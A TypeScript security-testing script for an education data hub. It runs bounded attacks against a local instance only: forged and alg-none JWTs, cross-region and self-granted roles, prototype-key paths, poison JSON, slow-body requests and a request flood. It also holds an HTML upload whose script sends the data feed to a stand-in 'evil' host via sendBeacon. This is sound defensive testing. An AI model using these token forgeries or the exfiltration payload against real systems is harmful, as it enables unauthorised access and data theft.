/**
 * `npm run security:attacks`: plays an anonymous caller, an officer of the wrong region, a forger,
 * a sloppy or hostile school system, against a hub running on the embedded default
 * (`npm start`, EDUCUBE_BASE_PORT), and prints what each attack got back. Every request goes to
 * the loopback addresses of that hub, each loop is bounded, and nothing it writes is kept
 * anywhere but in the hub's own stores. Run it against an old commit too to get the "before".
 */
import { randomUUID } from 'node:crypto';
import { sha256Hex } from '@educube/canonical-json';
import { request as httpRequest } from 'node:http';
import { signInThroughBuiltInPage } from '@educube/embedded-issuer';
import { ResourceUploadedV1, SchoolRegisteredV1 } from '@educube/contracts';
import { commandLine } from '@educube/cli';
import { anEvent } from '@educube/contracts/testing';
import { generateKeyPair, SignJWT, decodeProtectedHeader } from 'jose';

commandLine({
  command: 'npm run security:attacks --',
  summary:
    'Plays an anonymous caller, an officer of the wrong region, a forger and a sloppy or hostile school system\nagainst a hub running on the embedded default (npm start) on this machine, and prints what each attack got\nback. Only loopback addresses; every loop is bounded.',
  env: {
    EDUCUBE_BASE_PORT: "the hub's base port, as npm start uses it (default 3000)",
    ATTACK_FLOOD: 'requests of the flood attack (default 6200)',
  },
  examples: ['npm start & npm run security:attacks'],
  exitCodes: { 0: 'every attack played (read the table for what got through)', 1: 'error (hub unreachable)' },
});

const base = Number(process.env['EDUCUBE_BASE_PORT'] ?? 3000);
const url = (offset: number) => `http://127.0.0.1:${base + offset}`;
const gateway = url(0);
const identity = url(1);
const warehouse = url(2);
const assessment = url(3);
const issuer = url(9);
const FLOOD = Number(process.env['ATTACK_FLOOD'] ?? 6_200);

interface Outcome {
  readonly attack: string;
  readonly kind: string;
  readonly status: string;
  readonly detail: string;
}
const outcomes: Outcome[] = [];

function say(line: string): void {
  process.stdout.write(`${line}\n`);
}

async function form(path: string, params: Record<string, string>): Promise<Record<string, unknown>> {
  const res = await fetch(`${issuer}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams(params).toString(),
  });
  return (await res.json()) as Record<string, unknown>;
}

const bearer = (token: string | undefined): Record<string, string> => (token ? { authorization: `Bearer ${token}` } : {});

/** One line of the table: what the answer said, briefly. */
async function describe(res: Response, note?: (body: unknown, text: string) => string): Promise<{ status: string; detail: string }> {
  const text = await res.text();
  let body: unknown;
  try {
    body = JSON.parse(text);
  } catch {
    body = undefined;
  }
  const problem = body && typeof body === 'object' ? (body as { problems?: { rule?: string }[]; detail?: string; title?: string }) : undefined;
  const rule = problem?.problems?.[0]?.rule;
  const detail = note
    ? note(body, text)
    : res.ok
      ? `${text.length} bytes`
      : `${rule ? `rule ${rule}` : ''}${problem?.detail ? ` ${problem.detail.slice(0, 90)}` : ''}`.trim();
  return { status: String(res.status), detail };
}

async function attack(kind: string, name: string, run: () => Promise<{ status: string; detail: string }>): Promise<void> {
  let outcome: { status: string; detail: string };
  try {
    outcome = await run();
  } catch (e) {
    outcome = { status: 'error', detail: (e as Error).message.slice(0, 120) };
  }
  outcomes.push({ attack: name, kind, ...outcome });
  say(`${kind.padEnd(14)} ${name.padEnd(70)} ${outcome.status.padEnd(6)} ${outcome.detail}`);
}

// valid events of the contracts' factories, each with a fresh id and a time an hour ago
const hourAgo = () => new Date(Date.now() - 3_600_000).toISOString().replace(/\.\d+Z$/, '+00:00');
const event = (school: string) => anEvent(ResourceUploadedV1, {}, { subject: school, id: randomUUID(), time: hourAgo() });
const schoolRegistered = (school: string, regionCode: string) =>
  anEvent(SchoolRegisteredV1, { regionCode }, { subject: school, id: randomUUID(), time: hourAgo() });

/** A request whose body never finishes: how long until the hub lets go? */
function slowBody(target: string, headers: Record<string, string>, bytesDeclared: number, waitMs: number): Promise<{ status: string; detail: string }> {
  return new Promise((resolve) => {
    const started = Date.now();
    let settled = false;
    const done = (status: string, detail: string) => {
      if (settled) return;
      settled = true;
      clearTimeout(giveUp);
      req.destroy();
      resolve({ status, detail: `${detail} after ${((Date.now() - started) / 1000).toFixed(1)} s` });
    };
    const req = httpRequest(
      target,
      { method: 'POST', headers: { 'content-type': 'application/json', 'content-length': String(bytesDeclared), ...headers } },
      (res) => {
        res.resume();
        done(String(res.statusCode), 'answered');
      },
    );
    req.on('error', (e) => done('closed', `socket ${e.message}`));
    req.write('[');
    const giveUp = setTimeout(() => done('open', `still open (we gave up)`), waitMs);
  });
}

async function main(): Promise<void> {
  say(`attacking the hub at ${gateway} (identity ${identity}, warehouse ${warehouse}, assessment ${assessment}, issuer ${issuer})`);
  const login = async (username: string) =>
    signInThroughBuiltInPage({ issuer, clientId: 'educube-gateway', clientSecret: 'dev-gateway-secret', redirectUri: `${gateway}/auth/callback`, username });
  const province = await login('officer.zhejiang');
  const haishu = await login('officer.haishu');
  const cio = await login('cio.school1');
  const teacher = await login('teacher.school1');
  const system = (await form('/token', { grant_type: 'client_credentials', client_id: 'timetabling-system', client_secret: 'dev-timetabling-secret' }))[
    'access_token'
  ] as string;
  const shortlived = (await form('/token', { grant_type: 'client_credentials', client_id: 'educube-shortlived', client_secret: 'dev-shortlived-secret' }))[
    'access_token'
  ] as string;

  // the schools: ours (海曙区 3302030001, the demo accounts' school) and one of another city
  const all = await fetch(`${identity}/v1/regions/330000/schools`, { headers: bearer(province.accessToken) });
  const schools = ((await all.json()) as { schools?: { code: string }[] }).schools?.map((s) => s.code) ?? [];
  const own = '3302030001';
  const foreign = schools.find((c) => !c.startsWith('3302')) ?? '3301020001';
  say(`own school ${own}; a school of another city ${foreign} (${schools.length} schools in the province)`);

  // forged: a token the issuer never signed, with its kid and every claim a province officer has
  const { privateKey } = await generateKeyPair('RS256');
  const forged = await new SignJWT({ realm_access: { roles: ['province_officer'] }, region_code: '330000', typ: 'Bearer' })
    .setProtectedHeader({ alg: 'RS256', kid: decodeProtectedHeader(province.accessToken).kid ?? 'k', typ: 'at+jwt' })
    .setIssuer(issuer)
    .setAudience(['educube-gateway', 'educube-identity', 'educube-warehouse', 'educube-assessment', 'educube-ingest'])
    .setSubject('mallory')
    .setIssuedAt()
    .setExpirationTime('5m')
    .sign(privateKey);

  // ---- anonymous
  await attack('anonymous', "GET warehouse /v1/feed (every school's events)", async () =>
    describe(await fetch(`${warehouse}/v1/feed?limit=5000`), (b, t) =>
      Array.isArray((b as { events?: unknown[] })?.events)
        ? `${(b as { events: unknown[] }).events.length} events, ${new Set(t.match(/"subject":"\d{10}"/g) ?? []).size} schools`
        : t.slice(0, 80),
    ),
  );
  await attack('anonymous', 'GET warehouse /v1/dead-letters', async () => describe(await fetch(`${warehouse}/v1/dead-letters`)));
  await attack('anonymous', 'GET warehouse /v1/parked', async () => describe(await fetch(`${warehouse}/v1/parked`)));
  await attack('anonymous', 'GET warehouse /v1/ingestion/health', async () => describe(await fetch(`${warehouse}/v1/ingestion/health`)));
  await attack('anonymous', 'GET identity /v1/schools/:code', async () => describe(await fetch(`${identity}/v1/schools/${own}`)));
  await attack('anonymous', 'POST identity /v1/people/commands: grant itself province_officer', async () =>
    describe(
      await fetch(`${identity}/v1/people/commands`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
          commands: [
            {
              type: 'GrantRole',
              data: { personId: 'mallory', role: 'province_officer', scope: { kind: 'region', regionCode: '330000' }, effectiveOn: '2026-09-01' },
            },
          ],
        }),
      }),
    ),
  );
  await attack('anonymous', 'PUT identity personal data of a person', async () =>
    describe(
      await fetch(`${identity}/v1/people/${encodeURIComponent('p-1')}/personal-data`, {
        method: 'PUT',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ fullName: '张三' }),
      }),
    ),
  );
  await attack('anonymous', 'POST assessment attestation with a self-made x-acting-as header', async () =>
    describe(
      await fetch(`${assessment}/v1/schools/${own}/standards/zhejiang/items/${encodeURIComponent('(一)1.(4)')}/attestations`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-acting-as': JSON.stringify({ subject: 'mallory', role: 'cio', schoolCodes: [own] }) },
        body: JSON.stringify({ statement: 'x', documents: [] }),
      }),
    ),
  );
  await attack('anonymous', 'GET assessment score sheet', async () => describe(await fetch(`${assessment}/v1/schools/${own}/standards/zhejiang/sheet`)));
  await attack('anonymous', 'GET gateway /api/status: does it name schools?', async () =>
    describe(await fetch(`${gateway}/api/status`), (_b, t) => `${new Set(t.match(/\b33\d{8}\b/g) ?? []).size} school codes named`),
  );

  // ---- cross-region: the 海曙区 district officer reaches for another city
  await attack('cross-region', 'district officer: identity school of another city', async () =>
    describe(await fetch(`${identity}/v1/schools/${foreign}`, { headers: bearer(haishu.accessToken) })),
  );
  await attack('cross-region', "district officer: another city's dead letters", async () =>
    describe(
      await fetch(`${warehouse}/v1/dead-letters?school=${foreign}`, { headers: bearer(haishu.accessToken) }),
      (b) => `${(b as { count?: number })?.count ?? '–'} letters`,
    ),
  );
  await attack('cross-region', "district officer: another city's score sheet", async () =>
    describe(await fetch(`${assessment}/v1/schools/${foreign}/standards/zhejiang/sheet`, { headers: bearer(haishu.accessToken) })),
  );
  await attack('cross-region', 'district officer: grants a role over a school of another city', async () =>
    describe(
      await fetch(`${identity}/v1/people/commands`, {
        method: 'POST',
        headers: { ...bearer(haishu.accessToken), 'content-type': 'application/json' },
        body: JSON.stringify({
          commands: [
            { type: 'GrantRole', data: { personId: 'p-x', role: 'cio', scope: { kind: 'schools', schoolCodes: [foreign] }, effectiveOn: '2026-09-01' } },
          ],
        }),
      }),
    ),
  );
  await attack('cross-region', "teacher resolves another city's staff id", async () =>
    describe(
      await fetch(`${identity}/v1/id-links/resolve`, {
        method: 'POST',
        headers: { ...bearer(teacher.accessToken), 'content-type': 'application/json' },
        body: JSON.stringify({ refs: [{ system: 'timetabling', localId: `${foreign}-T0001` }] }),
      }),
      (b, t) => (t.includes('personId') ? 'resolved a person id' : `${JSON.stringify(b).slice(0, 80)}`),
    ),
  );

  // ---- forged, expired, wrong kind of token
  await attack('forged', 'province-officer token signed by another key → identity', async () =>
    describe(await fetch(`${identity}/v1/regions/330000/schools`, { headers: bearer(forged) })),
  );
  await attack('forged', 'alg none token → warehouse feed', async () => {
    const none = `${Buffer.from(JSON.stringify({ alg: 'none', typ: 'at+jwt' })).toString('base64url')}.${Buffer.from(JSON.stringify({ iss: issuer, sub: 'x', aud: 'educube-warehouse', realm_access: { roles: ['hub_service'] }, exp: 9_999_999_999, iat: 1 })).toString('base64url')}.`;
    return describe(await fetch(`${warehouse}/v1/feed`, { headers: bearer(none) }));
  });
  await attack('expired', 'school-system token 2 s past its expiry → POST events', async () => {
    await new Promise((r) => setTimeout(r, 8_000));
    return describe(
      await fetch(`${warehouse}/v1/events`, {
        method: 'POST',
        headers: { ...bearer(shortlived), 'content-type': 'application/json' },
        body: JSON.stringify([event(own)]),
      }),
    );
  });
  await attack('ID token', "an officer's ID token as a bearer → identity", async () =>
    describe(await fetch(`${identity}/v1/regions/330200/schools`, { headers: bearer(province.idToken) })),
  );
  await attack('wrong audience', 'school-system (ingest) token → identity region list', async () =>
    describe(await fetch(`${identity}/v1/regions/330000/schools`, { headers: bearer(system) })),
  );
  await attack('wrong audience', 'school-system (ingest) token → warehouse feed', async () =>
    describe(await fetch(`${warehouse}/v1/feed`, { headers: bearer(system) })),
  );

  // ---- cross-school ingest, organisation events
  await attack('cross-school', "school system sends an event of another city's school", async () =>
    describe(
      await fetch(`${warehouse}/v1/events`, {
        method: 'POST',
        headers: { ...bearer(system), 'content-type': 'application/json' },
        body: JSON.stringify([event(foreign)]),
      }),
      (b) => JSON.stringify((b as { results?: unknown[] })?.results?.[0] ?? b).slice(0, 110),
    ),
  );
  await attack('cross-school', 'the dead letter of that refusal: whose school is it filed under?', async () =>
    describe(
      await fetch(`${warehouse}/v1/dead-letters?limit=1`, { headers: bearer(system) }),
      (b) => `filed under ${JSON.stringify((b as { deadLetters?: { schoolCode?: string }[] })?.deadLetters?.[0]?.schoolCode ?? null)}`,
    ),
  );
  await attack('cross-school', 'school system sends SchoolRegistered moving its school to another city', async () =>
    describe(
      await fetch(`${warehouse}/v1/events`, {
        method: 'POST',
        headers: { ...bearer(system), 'content-type': 'application/json' },
        body: JSON.stringify([schoolRegistered(own, '330102')]),
      }),
      (b) => JSON.stringify((b as { results?: unknown[] })?.results?.[0] ?? b).slice(0, 110),
    ),
  );

  // ---- poison input
  const poison = async (name: string, raw: string) =>
    attack('poison', name, async () =>
      describe(await fetch(`${warehouse}/v1/events`, { method: 'POST', headers: { ...bearer(system), 'content-type': 'application/json' }, body: raw }), (b) =>
        JSON.stringify((b as { summary?: unknown })?.summary ?? b).slice(0, 110),
      ),
    );
  // the first event's resource id is poisoned; the second stays good
  const poisoned = (value: string) => {
    const text = JSON.stringify([event(own), event(own)]);
    return text.replace(/("resourceId":)"[^"]*"/, `$1${value}`);
  };
  await poison('a string with \\u0000, beside a good event', poisoned('"a\\u0000b"'));
  await poison('a string with a lone surrogate \\ud800, beside a good event', poisoned('"a\\ud800b"'));
  await poison('JSON nested 10,000 deep', `${'['.repeat(10_000)}${']'.repeat(10_000)}`);
  await attack('slow body', 'declares 1 MB, sends 1 byte, then nothing (token sent)', async () =>
    slowBody(`${warehouse}/v1/events`, bearer(system), 1_000_000, 60_000),
  );
  await attack('slow body', 'anonymous 5 MB upload: answered before the body?', async () => slowBody(`${warehouse}/v1/events`, {}, 5 * 1024 * 1024, 10_000));

  // ---- identity
  await attack('prototype keys', 'GET identity /v1/people/constructor (province officer)', async () =>
    describe(await fetch(`${identity}/v1/people/constructor`, { headers: bearer(province.accessToken) })),
  );
  await attack('prototype keys', 'PUT identity /v1/people/__proto__/personal-data', async () =>
    describe(
      await fetch(`${identity}/v1/people/__proto__/personal-data`, {
        method: 'PUT',
        headers: { ...bearer(province.accessToken), 'content-type': 'application/json' },
        body: JSON.stringify({ fullName: '张三' }),
      }),
    ),
  );
  await attack('self-grant', 'district officer grants themselves province_officer', async () =>
    describe(
      await fetch(`${identity}/v1/people/commands`, {
        method: 'POST',
        headers: { ...bearer(haishu.accessToken), 'content-type': 'application/json' },
        body: JSON.stringify({
          commands: [
            {
              type: 'GrantRole',
              data: { personId: 'officer.haishu', role: 'province_officer', scope: { kind: 'region', regionCode: '330000' }, effectiveOn: '2026-09-01' },
            },
          ],
        }),
      }),
    ),
  );

  // ---- documents
  const html = Buffer.from('<!doctype html><script>fetch("/v1/feed").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))</script>');
  let htmlSha = '';
  await attack('document type', 'CIO uploads an HTML page as evidence (text/html)', async () => {
    const res = await fetch(`${assessment}/v1/schools/${own}/documents?name=x.html`, {
      method: 'POST',
      headers: { ...bearer(cio.accessToken), 'content-type': 'text/html' },
      body: html,
    });
    if (res.ok) htmlSha = sha256Hex(html);
    return describe(res);
  });
  await attack('document type', 'CIO uploads the HTML page declared as application/pdf', async () =>
    describe(
      await fetch(`${assessment}/v1/schools/${own}/documents?name=x.pdf`, {
        method: 'POST',
        headers: { ...bearer(cio.accessToken), 'content-type': 'application/pdf' },
        body: html,
      }),
    ),
  );
  await attack('document type', 'a teacher opens the uploaded HTML: how is it served?', async () => {
    if (!htmlSha) return { status: '–', detail: 'nothing was stored to open' };
    let res = await fetch(`${assessment}/v1/schools/${own}/documents/${htmlSha}`, { headers: bearer(teacher.accessToken) });
    if (res.status === 404) res = await fetch(`${assessment}/v1/documents/${htmlSha}`, { headers: bearer(teacher.accessToken) });
    return {
      status: String(res.status),
      detail: `content-type ${res.headers.get('content-type')}, nosniff ${res.headers.get('x-content-type-options') ?? 'absent'}, disposition ${res.headers.get('content-disposition') ?? 'inline'}`,
    };
  });

  // ---- flood
  await attack('flood', `up to ${FLOOD} requests from one school system, 16 at a time`, async () => {
    let limited: Response | undefined;
    let sent = 0;
    const started = Date.now();
    const one = async (): Promise<void> => {
      while (sent < FLOOD && !limited && Date.now() - started < 120_000) {
        sent += 1;
        const res = await fetch(`${warehouse}/v1/dead-letters?limit=1`, { headers: bearer(system) });
        if (res.status === 429) limited ??= res;
        await res.body?.cancel();
      }
    };
    await Promise.all(Array.from({ length: 16 }, one));
    const seconds = ((Date.now() - started) / 1000).toFixed(1);
    return limited
      ? { status: '429', detail: `after ${sent} requests in ${seconds} s, Retry-After ${limited.headers.get('retry-after')} s` }
      : { status: 'none', detail: `${sent} requests in ${seconds} s, none refused` };
  });

  say('');
  say('| # | kind | attack | answer | detail |');
  say('|---|---|---|---|---|');
  outcomes.forEach((o, i) => say(`| ${i + 1} | ${o.kind} | ${o.attack} | ${o.status} | ${o.detail.replace(/\|/g, '\\|')} |`));
}

main().then(
  () => process.exit(0),
  (error: unknown) => {
    process.stderr.write(`attacks failed: ${(error as Error).stack ?? String(error)}\n`);
    process.exit(1);
  },
);
